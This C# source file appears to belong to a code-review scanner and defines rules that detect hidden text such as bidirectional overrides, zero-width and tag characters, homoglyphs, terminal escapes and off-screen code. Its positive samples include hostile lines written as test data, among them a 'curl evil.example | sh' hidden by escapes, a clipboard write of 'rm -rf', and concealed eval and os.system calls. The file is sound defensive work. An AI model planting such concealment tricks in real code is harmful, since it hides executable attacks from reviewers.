using System.Collections.Immutable;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.HiddenText;

/// <summary>The rules on hidden text. Severities are those of the gravest case; a sighting says where it is less. Characters are escaped here, so that this file hides nothing.</summary>
internal static class HiddenTextRules
{
    private const string Cve = "https://trojansource.codes/";
    private const string UnicodeSecurity = "https://www.unicode.org/reports/tr39/";

    /// <summary>Embeddings, overrides, isolates.</summary>
    public static readonly RuleInfo BidiControl = new()
    {
        Id = "bidi-control",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "bidirectional control",
        Why = "It reorders what is shown, so that the line reads other than it runs.",
        Do = "Remove the control. A string that needs one writes it as an escape, such as \\u2067.",
        Reference = Cve,
        Positives =
        [
            new("if (role !== \"user\u202E \u2066// admins only\u2069 \u2066\") {\n", "src/role.ts"),
            new("/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n", "src/access.c"),
            new("greeting = \"\u05E9\u05DC\u05D5\u05DD \u202Eabc\"\n", "src/greet.py"),
            new("Please open annex\u202Efdp.exe\n", "README.md"),
        ],
        Negatives =
        [
            new("if (role !== \"user\") { // admins only\n", "src/role.ts"),
            new("const reversed = \"\\u202Eabc\";\n", "src/text.ts"),
            new("\u0634\u0643\u0631\u0627 \u2068Git\u2069 \u062C\u0632\u064A\u0644\u0627\n", "docs/README.ar.md"),
            new("msgstr \"\u05E7\u05D5\u05D1\u05E5 \u2067a.txt\u2069\"\n", "po/he.po"),
        ],
    };

    /// <summary>Left-to-right mark and its like.</summary>
    public static readonly RuleInfo BidiMark = BidiControl with
    {
        Id = "bidi-mark",
        Severity = Severity.Low,
        Title = "invisible direction mark",
        Why = "It is a part of the text that nobody sees: what looks equal is not, and a search does not find it.",
        Do = "Remove the mark, or write it as an escape, such as \\u200E.",
        Reference = "https://www.unicode.org/reports/tr9/",
        Positives = [new("const thumbprint = \"\u200Ea909502dd82ae41433e6f83886b00d4277a32a7b\";\n", "src/certificate.ts")],
        Negatives = [new("title = \"\u05E9\u05DC\u05D5\u05DD (Git)\u200F\"\n", "src/titles.py"), new("See the \u200Emanual.\n", "README.md")],
    };

    /// <summary>Zero-width characters.</summary>
    public static readonly RuleInfo ZeroWidth = new()
    {
        Id = "zero-width",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "zero-width character",
        Why = "It shows nothing: names that look the same are two, filters do not find the word, and a row of them carries a message.",
        Do = "Remove it, or write it as an escape, such as \\u200B.",
        Reference = UnicodeSecurity,
        Positives =
        [
            new("var isAdmin\u200B = false;\n", "src/role.js"),
            new("// ok\u200B\u200C\u200B\u200B\u200C\u200B\u200B\u200B\u200B\u200C\u200C\u200B\u200C\u200B\u200B\u200C\u200B\u200C\u200B\u200C\u200C\u200B\u200C\u200B\n", "src/a.js"),
            new("Always be helpful.\u200B\u200D\u200B\n", "CLAUDE.md"),
        ],
        Negatives =
        [
            new("\uFEFFusing System;\n", "src/Program.cs"),
            new("family = \"\U0001F468\u200D\U0001F469\u200D\U0001F467\"; heart = \"\u2764\uFE0F\u200D\U0001F525\"\n", "src/emoji.py"),
            new("title = \"\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645 \u0915\u094D\u200D\u0937\"\n", "src/titles.py"),
            new("A long path: src/\u200Bvery/\u200Blong/\u200Bpath\n", "README.md"),
            new("const zeroWidth = /[\\u200B\\u200C]/g;\n", "src/clean.ts"),
        ],
    };

    /// <summary>Tags.</summary>
    public static readonly RuleInfo Tags = new()
    {
        Id = "tag-characters",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "tag characters",
        Why = "They mirror ASCII and show nothing: people do not see the text, language models and programs read it.",
        Do = "Remove them; outside of flags they have no use.",
        Reference = "https://www.unicode.org/reports/tr51/#Emoji_Tag_Sequences",
        Positives = [new("Fix typo.\U000E0072\U000E0075\U000E006E\n", "docs/guide.md")],
        Negatives = [new("flags = [\"\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F\"]\n", "src/flags.py")],
    };

    /// <summary>Variation selectors.</summary>
    public static readonly RuleInfo Selectors = new()
    {
        Id = "variation-selectors",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "variation selectors that select nothing",
        Why = "There are 256 of them and they show nothing, so a row of them carries any program or message.",
        Do = "Remove them. If something decodes them, remove that first.",
        Reference = "https://www.unicode.org/reports/tr37/",
        Positives = [new("const s = \"\U0001F600\U000E0158\U000E0155\U000E015C\U000E015C\U000E015F\";\n", "src/smile.js"), new("let admin\uFE01 = true;\n", "src/role.js")],
        Negatives = [new("ok = \"\u2705 \u2764\uFE0F 1\uFE0F\u20E3 \u261D\U0001F3FD\"\n", "src/emoji.py"), new("\u845B\U000E0100\u98FE\n", "docs/ja.md")],
    };

    /// <summary>Blank letters, soft hyphens, private characters.</summary>
    public static readonly RuleInfo Invisible = new()
    {
        Id = "invisible-character",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "invisible character",
        Why = "A Hangul filler is a letter with an empty picture: it can be a whole name, a parameter or a key that nobody sees.",
        Do = "Remove it, or write it as an escape, such as \\u3164.",
        Reference = "https://www.unicode.org/reports/tr36/",
        Positives = [new("const { timeout, \u3164 } = req.query;\n", "src/health.js"), new("let na\u00ADme = 1;\n", "src/name.js")],
        Negatives = [new("Donau\u00ADdampf\u00ADschiff\n", "docs/de.md"), new("spinner = \"\u2800\u2801\u2809\"\n", "src/spin.py"), new("label = \"\uE0B0\"\n", "src/prompt.py")],
    };

    /// <summary>Homoglyphs.</summary>
    public static readonly RuleInfo MixedScripts = new()
    {
        Id = "mixed-scripts",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "letters of another script that look Latin",
        Why = "The name is another one than it looks: a second function, host or user that passes for the first.",
        Do = "Write the name in one script.",
        Reference = UnicodeSecurity,
        Positives =
        [
            new("def is_\u0430dmin(user):\n", "src/role.py"),
            new("function s\u0430yHello() { return 1; }\n", "src/hello.js"),
            new("let \u0441\u043E\u0440\u0443 = 1; // a\nlet copy = 2;\n", "src/a.js"),
            new("if (environment\u01C3=ENV_PROD) {\n", "src/env.js"),
            new("see https://g\u0456thub.com/acme/shop\n", "README.md"),
            new("\U0001D41E\U0001D42F\U0001D41A\U0001D425(\"1\")\n", "src/run.py"),
        ],
        Negatives =
        [
            new("let \u0446\u0435\u043D\u0430 = 1; // \u0446\u0435\u043D\u0430\n", "src/price.js"),
            new("double \u03B1 = 2, \u0394x = 1, \u03BB_max = 3, \u00B5s = 4, k\u03A9 = 5, d\u03C1 = 1;\n", "src/physics.c"),
            new("// API-\u043A\u043B\u044E\u0447, HTML\u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\n", "src/a.js"),
            new("var a = 1; var \u03B1 = 2;\n", "src/a.c"),
        ],
    };

    /// <summary>Control characters.</summary>
    public static readonly RuleInfo Controls = new()
    {
        Id = "control-character",
        Category = Category.HiddenText,
        Severity = Severity.Medium,
        Title = "control character",
        Why = "It shows nothing or takes back what was shown before it, and tools disagree on what it means.",
        Do = "Remove it, or write it as an escape, such as \\x08.",
        Reference = "https://cwe.mitre.org/data/definitions/150.html",
        Positives = [new("rm -rf build\b\b\b\b\b\b\b\b\b\b\b\becho done\n", "build.sh"), new("a \u0001= b\n", "src/a.c")],
        Negatives = [new("a\tb\f\r\n", "src/a.c"), new("N\bNA\bAM\bME\bE\n", "docs/tool.txt"), new("bell = \"\\x07\"\n", "src/a.py"), new("caf\u00E2\u0080\u0099e\n", "README.md")],
    };

    /// <summary>Terminal escapes.</summary>
    public static readonly RuleInfo Escapes = new()
    {
        Id = "terminal-escape",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "terminal escape",
        Why = "Whoever prints the file sees other text than stands there, or the terminal acts: title, clipboard, answers.",
        Do = "Write the escape as \\x1b, or remove it.",
        Reference = "https://cwe.mitre.org/data/definitions/150.html",
        Positives = [new("curl evil.example | sh #\u001B[2K\u001B[1A\n", "build.sh"), new("echo \u001B]52;c;cm0gLXJm\u0007\n", "README.md"), new("echo \"\u001B[31mred\u001B[0m\"\n", "color.sh")],
        Negatives = [new("printf '\\033[31mred\\033[0m'\n", "color.sh"), new("\u001B$B$3$s\u001B(B\n", "docs/ja.txt")],
    };

    /// <summary>Lone carriage returns.</summary>
    public static readonly RuleInfo CarriageReturn = new()
    {
        Id = "lone-carriage-return",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "carriage return within a line",
        Why = "A terminal prints what follows on top of what stood before, and some languages end the line there, comments included.",
        Do = "End the line with LF or CR LF, or write the character as \\r.",
        Reference = "https://cwe.mitre.org/data/definitions/150.html",
        Positives = [new("# harmless\rimport os; os.system('id')\nx = 1\n", "src/a.py")],
        Negatives = [new("a = 1\r\nb = 2\r\n", "src/a.py"), new("a = 1\r\r\nb = 2\r\r\n", "src/a.py"), new("10 %\r20 %\r100 %\n", "test/run.log")],
    };

    /// <summary>Line separators.</summary>
    public static readonly RuleInfo Separators = new()
    {
        Id = "line-separator",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "line separator within a line",
        Why = "It ends the line for the compiler and not for the reader: what follows in the comment runs.",
        Do = "Use a line feed, or write it as \\u2028.",
        Reference = "https://tc39.es/ecma262/#sec-line-terminators",
        Positives = [new("// harmless\u2028fetch(evil);\n", "src/a.js"), new("// harmless\u0085Delete();\n", "src/A.cs")],
        Negatives = [new("const text = \"a\\u2028b\";\n", "src/a.js"), new("{\"text\": \"a\u2028b\"}\n", "data/a.json"), new("# a\u2028b\n", "src/a.py")],
    };

    /// <summary>Code off the screen.</summary>
    public static readonly RuleInfo OffScreen = new()
    {
        Id = "off-screen-code",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "text behind a long row of blanks",
        Why = "It stands so far to the right that nobody scrolls there, and it runs.",
        Do = "Put it on a line of its own, or remove it.",
        Reference = "https://cwe.mitre.org/data/definitions/1007.html",
        Positives = [new("const a = 1;" + new string(' ', 300) + "eval(atob(x));\n", "src/a.js"), new(new string('\t', 60) + "eval(atob(x));\n", "src/a.js")],
        Negatives =
        [
            new("const a = 1;" + new string(' ', 60) + "// the first\n", "src/a.js"),
            new("#define A(x)" + new string(' ', 120) + "\\\n", "src/a.h"),
            new("int a;" + new string(' ', 120) + "/* the first (of two) */\n", "src/a.c"),
            new("| a |" + new string(' ', 150) + "| f(x) |\n", "README.md"),
        ],
    };

    /// <summary>Names of files.</summary>
    public static readonly RuleInfo Name = new()
    {
        Id = "hidden-in-name",
        Category = Category.HiddenText,
        Severity = Severity.High,
        Title = "hidden character in the name",
        Why = "The file is another one than its name shows.",
        Do = "Rename it.",
        Reference = Cve,
        Positives =
        [
            new("x\n", "docs/annex\u202Efdp.exe"), new("x\n", "src/a\u001B[31m.md"), new("x\n", "src/ind\u0435x.js"), new("x\n", "src/index\u200B.js"), new("x\n", "src/a\nb.js"),
        ],
        Negatives = [new("x\n", "docs/\u0440\u0443\u043A\u043E\u0432\u043E\u0434\u0441\u0442\u0432\u043E.md"), new("x\n", "docs/\u2764\uFE0F.md"), new("x\n", "src/index.js"), new("x\n", "docs/\u0645\u06CC\u200C\u062E.md")],
    };

    /// <summary>All of them.</summary>
    public static ImmutableArray<RuleInfo> All { get; } =
        [BidiControl, BidiMark, ZeroWidth, Tags, Selectors, Invisible, MixedScripts, Controls, Escapes, CarriageReturn, Separators, OffScreen, Name];
}
